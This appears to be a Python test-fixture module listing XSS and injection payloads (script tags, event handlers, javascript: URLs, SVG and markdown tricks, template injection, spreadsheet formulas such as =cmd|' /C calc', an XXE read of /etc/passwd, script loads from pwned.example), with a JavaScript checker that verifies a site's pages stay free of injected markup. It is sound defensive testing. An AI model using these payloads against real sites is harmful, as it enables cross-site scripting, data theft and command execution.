"""Texts that try to become mark-up, of each kind that OWASP's cheat sheet on filter evasion knows, and more of ours.

Each that ran would call `pwned` or open a dialog, and each that only became an element or attribute would hold the
word: both are looked for.
"""

MARK = "pwned"

SCRIPTS = (
    "<script>pwned()</script>",
    '<SCRIPT SRC="https://pwned.example/x.js"></SCRIPT>',
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    '"><script>alert("pwned")</script>',
    "'><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</style></script><script>pwned()</script>",
    "<<script>pwned();//<</script>",
    "<script/pwned src=//pwned.example/x.js></script>",
    "<script\n>pwned()</script\n>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "<noscript><p title='</noscript><img src=pwned onerror=pwned()>'>",
)
HANDLERS = (
    "<img src=pwned onerror=pwned()>",
    "<IMG SRC=pwned OnErRoR=alert('pwned')>",
    "<img/src=pwned/onerror=pwned()>",
    '<img """><script>pwned()</script>">',
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    '" onmouseover="pwned()" pwned="',
    "' onmouseover='pwned()' pwned='",
    "x onfocus=pwned() autofocus tabindex=1",
    "<pwned-element onclick=pwned()>click</pwned-element>",
    "<marquee onstart=pwned()>pwned</marquee>",
    "<a onclick=pwned()>pwned</a>",
)
ADDRESSES = (
    '<a href="javascript:pwned()">pwned</a>',
    '<a href="jav\tascript:pwned()">pwned</a>',
    "<a href='&#106;avascript:pwned()'>pwned</a>",
    "<a href='data:text/html,<script>pwned()</script>'>pwned</a>",
    '<iframe src="javascript:pwned()"></iframe>',
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<object data="data:text/html;base64,cHduZWQ="></object>',
    "<embed src=https://pwned.example/x.swf>",
    '<form action="javascript:pwned()"><button>pwned</button></form>',
    '<base href="https://pwned.example/">',
    '<link rel="stylesheet" href="https://pwned.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    '<style>@import "https://pwned.example/x.css";</style>',
    '<p style="background:url(javascript:pwned())">pwned</p>',
    "javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
)
DRAWINGS = (
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '<svg><a xlink:href="javascript:pwned()"><text>pwned</text></a></svg>',
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><foreignObject><iframe onload=pwned()></iframe></foreignObject></svg>",
    "</text></svg><script>pwned()</script>",
    "</desc><script>pwned()</script>",
    "<math><mtext><table><mglyph><style><img src=pwned onerror=pwned()></style></mglyph></table></mtext></math>",
    "<![CDATA[<script>pwned()</script>]]>",
    "<!ENTITY pwned SYSTEM 'file:///etc/passwd'>",
)
MARKDOWN = (
    "[pwned](javascript:pwned())",
    "[pwned](<javascript:pwned()> 'pwned')",
    "![pwned](pwned.png)",
    '![x](pwned" onerror="pwned())',
    "[pwned]: javascript:pwned()",
    "[pwned][pwned] {: onclick=pwned() #pwned .pwned }",
    "**pwned**{: onmouseover=pwned() }",
    "<javascript:pwned()>",
    "<https://pwned.example>",
    "`pwned`{: style=color:red }",
    "```html\n<script>pwned()</script>\n```",
    "# pwned {: #pwned onclick=pwned() }",
    "    <script>pwned()</script>",
    "| pwned | <script>pwned()</script> |",
    "~~~ { .pwned onclick=pwned() }",
    "\x02klzzwxh:0000\x03 pwned",
    "\\<script\\>pwned()\\</script\\>",
)
TEMPLATES = (
    "{{ pwned }}",
    "{{ config.site_name }} pwned {{ 7 * 7 }}",
    "{% include 'pwned' %}",
    "{% raw %}pwned{# pwned #}",
    "${pwned()} #{pwned()} <%= pwned() %>",
    "`${pwned()}`",
    "{{constructor.constructor('pwned()')()}}",
)
ENTITIES = (
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&#x3c;script&#x3e;pwned()&#x3c;/script&#x3e;",
    "&#0000060script&#0000062pwned()",
    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "<b>pwned</b><br><i id=pwned>pwned</i>",
    "<plaintext>pwned",
    "<xmp>pwned",
    "<!-- pwned",
    "<?php pwned() ?>",
)
INVISIBLE = (
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "<img src=pwned\x0bonerror=pwned()>",
    "pwned \u202e)(denwp\u202c",
    "pwned\u2028</script><script>pwned()</script>",
)
FORMULAS = (
    "=cmd|' /C calc'!A0 pwned",
    '=HYPERLINK("https://pwned.example","pwned")',
    "+pwned()",
    "-2+3+cmd|' /C calc'!A0 pwned",
    "@SUM(1+9)*cmd|' /C calc'!A0 pwned",
    "\t=pwned()",
)
ALL = (
    *(*SCRIPTS, *HANDLERS, *ADDRESSES, *DRAWINGS, *MARKDOWN),
    *(*TEMPLATES, *ENTITIES, *INVISIBLE, *FORMULAS),
)

# Elements that pages of the site have on purpose; frames, styles and the rest are none of them.
_ELEMENTS = """
html head body meta title link script main header footer nav section article aside div p span h1 h2 h3 h4 h5 h6 a
ul ol li dl dt dd table caption thead tbody tr th td figure figcaption details summary button form label input
select option fieldset legend strong em code data time abbr br hr wbr img svg path line rect circle text tspan g
desc defs pattern clippath polyline polygon use symbol small address blockquote dfn mark ins del
"""
ELEMENTS = frozenset(_ELEMENTS.split())
# Attributes that hold words for people.
SAYS = frozenset({"title", "aria-label", "aria-description", "content", "alt", "placeholder", "label", "value"})
SAYS |= {"data-stage", "data-label"}

LOOK = """(given) => {
  const [root, mark, elements, says] = [given.html === undefined ? document
    : new DOMParser().parseFromString(given.html, "text/html"), given.mark, given.elements, given.says];
  const faults = [], ids = ["id", "href", "data-figure", "aria-labelledby"];  // of words no more than their letters
  for (const part of root.querySelectorAll("*")) {
    const name = part.localName;
    if (!elements.includes(name.toLowerCase())) faults.push("element " + name);
    if (name === "script" && !part.src && part.id !== "__config") faults.push("script " + part.textContent);
    if (name === "meta" && part.httpEquiv && part.httpEquiv !== "Content-Security-Policy") faults.push("meta");
    for (const held of part.attributes) {
      const words = held.value.toLowerCase();
      if (held.name.startsWith("on") || held.name.includes(mark)) faults.push(name + " has " + held.name);
      if (/^\\s*(javascript|vbscript|data):/.test(words)) faults.push(name + " " + held.name + "=" + words);
      const named = ids.includes(held.name) && /^[\\w.#/-]+$/.test(words) && words.replace("#", "") !== mark;
      if (words.includes(mark) && !says.includes(held.name) && !named)
        faults.push(name + " " + held.name + "=" + words.slice(0, 60));
    }
  }
  return {faults, words: root.documentElement.textContent};
}"""
